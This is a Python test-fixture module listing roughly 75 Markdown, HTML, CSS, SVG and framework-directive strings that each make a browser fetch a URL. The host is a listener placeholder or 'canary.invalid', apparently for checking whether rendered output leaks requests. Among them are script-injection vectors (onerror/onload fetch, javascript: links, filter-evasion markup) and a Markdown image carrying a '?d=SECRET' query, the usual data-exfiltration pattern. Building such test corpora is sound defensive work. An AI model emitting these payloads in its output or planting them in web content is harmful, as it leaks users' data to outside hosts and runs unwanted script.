"""Texts that try to make a browser fetch or run something: Markdown, HTML, CSS, SVG and Streamlit directives.

`{host}` stands for a listener (host:port); `PAYLOADS` carry a host that resolves nowhere.
"""

_TEMPLATES = (
    # Markdown images and links
    "![x](http://{host}/m1?d=SECRET)",
    "![x](//{host}/m2)",
    "![x][r]\n\n[r]: http://{host}/m3",
    "![](http://{host}/m4 'title')",
    "![x](<http://{host}/m5>)",
    "[![x](http://{host}/m6)](http://{host}/m6b)",
    "[click](http://{host}/m7)",
    "<http://{host}/m8>",
    "http://{host}/m9",
    "www.{host}/m10",
    "[x]: http://{host}/m11\n[x]",
    "![x](http:\\\\{host}\\m12)",
    "![x](HTTP://{host}/m13)",
    "![\u200bx](http://{host}/m14)",
    "| a |\n|---|\n| ![x](http://{host}/m15) |",
    "> ![x](http://{host}/m16)",
    "1. ![x](http://{host}/m17)",
    "`![x](http://{host}/m18)`",
    "**![x](http://{host}/m19)**",
    "# ![x](http://{host}/m20)",
    "![x](http://{host}/m21){{width=1}}",
    "[^1]\n\n[^1]: ![x](http://{host}/m22)",
    # HTML that loads by itself
    "<img src=http://{host}/h1>",
    "<img src='//{host}/h2'>",
    "<img srcset='http://{host}/h3 2x'>",
    "<picture><source srcset='http://{host}/h4'><img></picture>",
    "<image src='http://{host}/h5'>",
    "<input type=image src='http://{host}/h6'>",
    "<video poster='http://{host}/h7' src='http://{host}/h7b' autoplay></video>",
    "<audio src='http://{host}/h8' autoplay></audio>",
    "<iframe src='http://{host}/h9'></iframe>",
    "<iframe srcdoc='<img src=http://{host}/h10>'></iframe>",
    "<embed src='http://{host}/h11'>",
    "<object data='http://{host}/h12'></object>",
    "<link rel=stylesheet href='http://{host}/h13'>",
    "<link rel=prefetch href='http://{host}/h14'>",
    "<link rel=dns-prefetch href='//{host}/'>",
    "<link rel=preconnect href='http://{host}/'>",
    "<base href='http://{host}/h17/'><img src=x>",
    "<meta http-equiv=refresh content='0;url=http://{host}/h18'>",
    "<body background='http://{host}/h19'>",
    "<table background='http://{host}/h20'><tr><td>x</table>",
    "<form action='http://{host}/h21'><button autofocus>x</button></form>",
    "<a href='http://{host}/h22' ping='http://{host}/h22b'>x</a>",
    "<frameset><frame src='http://{host}/h23'></frameset>",
    # CSS
    "<style>@import 'http://{host}/c1';</style>",
    "<style>body{{background:url(http://{host}/c2)}}</style>",
    "<p style='background:url(http://{host}/c3)'>x</p>",
    "<p style=\"background-image:image-set('http://{host}/c4' 1x)\">x</p>",
    "<style>@font-face{{font-family:f;src:url(http://{host}/c5)}}*{{font-family:f}}</style>",
    "<li style='list-style:url(http://{host}/c6)'>x</li>",
    # Script and SVG
    "<script src='http://{host}/s1'></script>",
    "<script>fetch('http://{host}/s2')</script>",
    "<img src=x onerror=\"fetch('http://{host}/s3')\">",
    "<svg onload=\"fetch('http://{host}/s4')\">",
    "<svg><image href='http://{host}/s5'/></svg>",
    "<svg><use href='http://{host}/s6#x'/></svg>",
    "<svg><style>@import 'http://{host}/s7'</style></svg>",
    "<math><mtext><img src='http://{host}/s8'></mtext></math>",
    "<details open ontoggle=\"fetch('http://{host}/s9')\">x</details>",
    "<a href=\"javascript:fetch('http://{host}/s10')\">x</a>",
    "<noscript><img src='http://{host}/s11'></noscript>",
    "</p></div><img src='http://{host}/s12'>",
    "<!--><img src='http://{host}/s13'>-->",
    "<![CDATA[<img src='http://{host}/s14'>]]>",
    "&lt;img src=http://{host}/s15&gt;",
    "<scr<script>ipt src='http://{host}/s16'></script>",
    # Directives of the UI framework, and formulas
    ":red[![x](http://{host}/d1)]",
    ":material/home: ![x](http://{host}/d2)",
    "$\\includegraphics{{http://{host}/d3}}$",
    "$$\\href{{http://{host}/d4}}{{x}}$$",
    ":image[http://{host}/d5]",
    "data:text/html,<img src=http://{host}/d6>",
)


def payloads(host: str) -> tuple[str, ...]:
    """All payloads, aimed at a listener `host:port`."""
    return tuple(template.format(host=host) for template in _TEMPLATES)


PAYLOADS = payloads("canary.invalid")
"""The payloads as plain texts."""
